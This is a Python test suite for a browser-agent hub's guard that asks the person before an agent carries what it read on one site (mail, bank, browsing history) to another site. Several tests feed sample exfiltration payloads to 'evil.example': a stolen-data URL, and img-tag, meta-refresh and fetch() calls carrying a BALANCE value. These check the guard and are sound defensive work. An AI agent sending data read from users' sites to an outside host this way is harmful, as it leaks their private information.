"""The data-flow guard: what an agent read on one site, it carries to another only with the person's word."""

from __future__ import annotations

import asyncio
import json
from pathlib import Path
from typing import Any

import pytest

from tests.harness.agent import Agent, client, stateless
from tests.harness.fake_extension import answer_scripts, tab
from tests.harness.hub import RunningHub, running_hub
from tests.harness.panel import Panel

MAIL, BANK, SHOP = "https://mail.example", "https://bank.example", "https://shop.example"
TABS = [tab(7, f"{MAIL}/in", active=True), tab(8, f"{BANK}/pay"), tab(9, f"{SHOP}/")]


def guarded(tmp_path: Path, **settings: Any) -> Any:
    return running_hub(tmp_path, **{"dataflow": "ask", **settings})


def place(hub: RunningHub, url: str) -> int:
    return next(each.tab_id for each in hub.hub.browsers.book if each.url.startswith(url))


async def act(hub: RunningHub, agent: Agent, url: str) -> dict[str, Any]:
    arguments = {"tabId": place(hub, url), "code": "return 1"}
    result: dict[str, Any] = (await agent.call("browser_execute_script", arguments))["result"]
    return result


async def test_the_person_is_asked_once_for_each_pair_with_the_reason(tmp_path: Path) -> None:
    async with guarded(tmp_path) as hub, Panel(hub, tabs=list(TABS)) as panel, Agent(hub) as agent:
        assert not (await act(hub, agent, MAIL)).get("isError")
        assert not (await act(hub, agent, MAIL)).get("isError")
        calling = asyncio.create_task(act(hub, agent, BANK))
        request = await panel.decide("allow_once")
        assert not (await calling).get("isError")
        assert (request["reason"], request["origin"]) == ("dataflow", BANK)
        assert f"has read {MAIL}, and now acts on {BANK}" in request["message"]
        assert "allow_always" not in request["choices"]
        assert not (await act(hub, agent, BANK)).get("isError")
        # another site is another pair, and both that were read are named
        calling = asyncio.create_task(act(hub, agent, SHOP))
        request = await panel.decide("deny", "no")
        assert f"has read {MAIL}, {BANK}, and now acts on {SHOP}" in request["message"]
        assert (await calling)["isError"]
        # what only reads is never asked for
        info = await agent.call("browser_get_tab_info", {"tabId": place(hub, SHOP)})
        assert not info["result"].get("isError")


async def test_an_address_to_go_to_counts_as_the_place_that_is_acted_on(tmp_path: Path) -> None:
    async with guarded(tmp_path) as hub, Panel(hub, tabs=list(TABS)) as panel, Agent(hub) as agent:
        await act(hub, agent, MAIL)
        given = {"url": "https://evil.example/?stolen=1", "tabId": place(hub, MAIL)}
        calling = asyncio.create_task(agent.call("browser_navigate_tab", given))
        request = await panel.decide("deny")
        assert request["origin"] == "https://evil.example"
        assert (await calling)["result"]["isError"]


async def test_sessions_do_not_carry_for_each_other_but_a_stateless_client_is_one(tmp_path: Path) -> None:
    async with guarded(tmp_path) as hub, Panel(hub, tabs=list(TABS)) as panel, client(hub) as http:
        async with Agent(hub) as one, Agent(hub) as two:
            await act(hub, one, MAIL)
            assert not (await act(hub, two, BANK)).get("isError")
        for session in hub.hub.sessions.all():
            hub.hub.session_control.end(session.id, "done")

        async def call(url: str) -> dict[str, Any]:
            arguments = {"tabId": place(hub, url), "code": "return 1"}
            body, headers = stateless("tools/call", {"name": "browser_execute_script", "arguments": arguments})
            result: dict[str, Any] = (await http.post("/mcp", json=body, headers=headers)).json()["result"]
            return result

        await call(MAIL)
        calling = asyncio.create_task(call(BANK))
        assert (await panel.decide("allow_once"))["reason"] == "dataflow"
        assert not (await calling).get("isError")


async def test_an_act_that_is_asked_for_anyway_is_asked_for_once_with_both_reasons(tmp_path: Path) -> None:
    asks = guarded(tmp_path, permissions={"default": "ask"})
    async with asks as hub, Panel(hub, tabs=list(TABS)) as panel, Agent(hub) as agent:
        calling = asyncio.create_task(act(hub, agent, MAIL))
        await panel.decide("allow_session")
        await calling
        # the approval for the session is for the other site, and does not cover carrying
        calling = asyncio.create_task(act(hub, agent, BANK))
        request = await panel.decide("allow_session")
        assert request["reason"] == "permission"
        assert f"has read {MAIL}, and now acts on {BANK}" in request["message"]
        assert not (await calling).get("isError")
        assert not (await act(hub, agent, BANK)).get("isError")


@pytest.mark.parametrize("mode", ["warn", "off"])
async def test_it_can_be_set_to_warn_or_off(tmp_path: Path, mode: str) -> None:
    async with guarded(tmp_path, dataflow=mode) as hub, Panel(hub, tabs=list(TABS)), Agent(hub) as agent:
        await act(hub, agent, MAIL)
        assert not (await act(hub, agent, BANK)).get("isError")
        hub.hub.engine.audit.flush()
        lines = [json.loads(line) for line in hub.home.audit.read_text().splitlines()]
        warned = [line for line in lines if line["tool"] == "data flow"]
        assert [(line["read"], line["acts"]) for line in warned] == ([([MAIL], BANK)] if mode == "warn" else [])


async def test_a_browser_of_the_hubs_own_is_not_guarded(tmp_path: Path) -> None:
    async with guarded(tmp_path) as hub, Panel(hub, tabs=list(TABS)) as browser, Agent(hub) as agent:
        await browser.notify("extension.hello", {"managed": True})
        await browser.settle()
        await act(hub, agent, MAIL)
        assert not (await act(hub, agent, BANK)).get("isError")


BLOB = f"blob:{BANK}/6f1c"
EVIL = "https://evil.example"


async def asks_after_reading(hub: RunningHub, panel: Panel, agent: Agent, url: str) -> str:
    """Read a tab by its URL, then act on another site: the message that the person is asked with."""
    read = await agent.call("browser_get_tab_info", {"tabId": place(hub, url)})
    assert not read["result"].get("isError"), read
    calling = asyncio.create_task(act(hub, agent, EVIL))
    request = await panel.decide("deny")
    assert (await calling)["isError"]
    message: str = request["message"]
    return message


@pytest.mark.req("B26")
@pytest.mark.parametrize(
    ("url", "opener", "read"),
    [
        (BLOB, None, BANK),
        ("about:blank", 8, BANK),
        ("data:text/html,statement", 8, BANK),
        ("about:blank", None, "unknown (about:)"),
        ("blob:null/6f1c", None, "unknown (blob:)"),
    ],
)
async def test_documents_without_an_origin_count_as_their_creators(
    tmp_path: Path, url: str, opener: int | None, read: str
) -> None:
    opened = tab(10, url, **({} if opener is None else {"openerTabId": opener}))
    tabs = [*TABS, opened, tab(11, f"{EVIL}/")]
    async with guarded(tmp_path) as hub, Panel(hub, tabs=tabs) as panel, Agent(hub) as agent:
        assert f"has read {read}, and now acts on {EVIL}" in await asks_after_reading(hub, panel, agent, url)
        assert hub.hub.engine.audit.recent(2)[1]["origin"] == read


async def test_document_of_unknown_origin_is_asked_for_each_time(tmp_path: Path) -> None:
    tabs = [*TABS, tab(10, "data:text/html,x")]
    async with guarded(tmp_path) as hub, Panel(hub, tabs=tabs) as panel, Agent(hub) as agent:
        await act(hub, agent, MAIL)
        for _ in range(2):
            calling = asyncio.create_task(act(hub, agent, "data:"))
            assert "now acts on unknown (data:)" in (await panel.decide("allow_once"))["message"]
            assert not (await calling).get("isError")


@pytest.mark.parametrize(
    ("name", "arguments"),
    [
        ("browser_open_tab", {"url": f"data:text/html,<img src='{EVIL}/?BALANCE'>"}),
        ("browser_create_window", {"url": f"data:text/html,<meta http-equiv=refresh content='0;{EVIL}/?BALANCE'>"}),
        ("browser_execute_script", {"code": f"fetch('{EVIL}/?BALANCE')"}),
    ],
)
async def test_page_that_the_agent_writes_itself_counts_as_another_site(
    tmp_path: Path, name: str, arguments: dict[str, Any]
) -> None:
    async with guarded(tmp_path) as hub, Panel(hub, tabs=list(TABS)) as panel, Agent(hub) as agent:
        panel.handlers["searchHistory"] = lambda _: {"entries": [{"url": f"{BANK}/pay"}]}
        await agent.call("browser_search_history", {"query": ""})
        calling = asyncio.create_task(agent.call(name, arguments))
        assert f"has read {BANK}, and now acts on" in (await panel.decide("deny"))["message"]
        assert (await calling)["result"]["isError"]


@pytest.mark.parametrize(
    ("name", "command", "reply", "arguments"),
    [
        ("browser_search_history", "searchHistory", {"entries": [{"url": f"{BANK}/pay"}]}, {"query": ""}),
        ("browser_get_visits", "getVisits", {"visits": [{"visitId": "1"}]}, {"url": f"{BANK}/pay"}),
        (
            "browser_get_recently_closed",
            "getRecentlyClosed",
            {"closed": [{"sessionId": "1", "kind": "window", "tabs": [{"url": f"{BANK}/pay", "title": "Pay"}]}]},
            {},
        ),
    ],
)
async def test_history_counts_as_reading_the_sites_it_returns(
    tmp_path: Path, name: str, command: str, reply: dict[str, Any], arguments: dict[str, Any]
) -> None:
    tabs = [tab(11, f"{EVIL}/")]
    async with guarded(tmp_path) as hub, Panel(hub, tabs=tabs) as panel, Agent(hub) as agent:
        panel.handlers[command] = lambda _: reply
        assert not (await agent.call(name, arguments))["result"].get("isError")
        calling = asyncio.create_task(act(hub, agent, EVIL))
        assert f"has read {BANK}, and now acts on {EVIL}" in (await panel.decide("deny"))["message"]
        await calling


async def test_batch_that_begins_with_a_navigation_acts_where_that_leads(tmp_path: Path) -> None:
    steps = [{"action": "navigate", "url": f"{MAIL}/in"}, {"action": "press", "key": "a"}]
    async with guarded(tmp_path) as hub, Panel(hub, tabs=[tab(7, f"{MAIL}/in")]) as panel, Agent(hub) as agent:
        await act(hub, agent, MAIL)
        await agent.call("browser_release_tab", {"tabId": 7})
        panel.has_frames = True
        panel.handlers["forwardCDPCommand"] = answer_scripts
        panel.handlers["browser_navigate"] = lambda params: {**params, "title": "In", "status": "complete"}
        assert not (await agent.call("browser_act", {"actions": steps}))["result"].get("isError")
